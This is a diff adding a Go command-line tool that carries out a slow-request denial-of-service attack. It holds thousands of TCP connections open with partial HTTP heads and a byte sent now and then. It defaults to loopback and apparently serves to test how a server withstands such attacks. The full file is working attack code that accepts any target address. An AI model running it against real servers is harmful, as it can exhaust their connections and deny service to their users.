@@ -1,0 +1,97 @@
+//go:build linux
+
+// Command slow keeps connections open that never finish a request, as a
+// slow-request attack does: each sends the beginning of a head, and then a byte
+// of it now and then. What the server closes is opened again.
+//
+//	slow --addr 127.0.0.1:8080 --connections 5000 --every 1s
+//
+// All are opened over one period of the pace, evenly, and stay as evenly spread:
+// what a server feels is their number, not their coming all at once. It prints a
+// line when all are open, and ends with its standard input.
+package main
+
+import (
+	"errors"
+	"flag"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+const beginning = "GET /a HTTP/1.1\r\nHost: go.example.com\r\nUser-Agent: "
+
+func main() {
+	addr := flag.String("addr", "127.0.0.1:8080", "`address` of the server")
+	connections := flag.Int("connections", 5000, "`number` of connections")
+	every := flag.Duration("every", time.Second, "`time` between two bytes of one")
+	flag.Parse()
+	tcp, err := net.ResolveTCPAddr("tcp4", *addr)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, "slow:", err)
+		os.Exit(1)
+	}
+	go func() {
+		_, _ = io.Copy(io.Discard, os.Stdin)
+		os.Exit(0)
+	}()
+	a := attack{to: unix.SockaddrInet4{Port: tcp.Port, Addr: [4]byte(tcp.IP.To4())}, fds: make([]int, *connections)}
+	for i := range a.fds {
+		a.fds[i] = -1
+	}
+	if err := a.run(*every); err != nil {
+		fmt.Fprintln(os.Stderr, "slow:", err)
+		os.Exit(1)
+	}
+}
+
+// attack is the connections, in the order of their turns.
+type attack struct {
+	to  unix.SockaddrInet4
+	fds []int // -1: closed
+}
+
+// run gives each connection its turn, again and again.
+func (a *attack) run(every time.Duration) error {
+	gap := every / time.Duration(len(a.fds))
+	next := time.Now()
+	for round := 0; ; round++ {
+		for i := range a.fds {
+			if wait := time.Until(next); wait > 0 {
+				time.Sleep(wait)
+			}
+			next = next.Add(gap)
+			if err := a.turn(i); err != nil {
+				return err
+			}
+		}
+		if round == 0 {
+			fmt.Println("all are open")
+		}
+	}
+}
+
+// turn sends a byte, or opens the connection.
+func (a *attack) turn(i int) error {
+	if fd := a.fds[i]; fd >= 0 {
+		if _, err := unix.Write(fd, []byte("x")); err == nil || errors.Is(err, unix.EAGAIN) {
+			return nil
+		}
+		_ = unix.Close(fd)
+		a.fds[i] = -1
+	}
+	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
+	if err != nil {
+		return os.NewSyscallError("socket", err)
+	}
+	a.fds[i] = fd
+	if err := unix.Connect(fd, &a.to); err != nil { // over loopback it is there at once
+		return os.NewSyscallError("connect", err)
+	}
+	_, err = unix.Write(fd, []byte(beginning))
+	return os.NewSyscallError("write", err)
+}
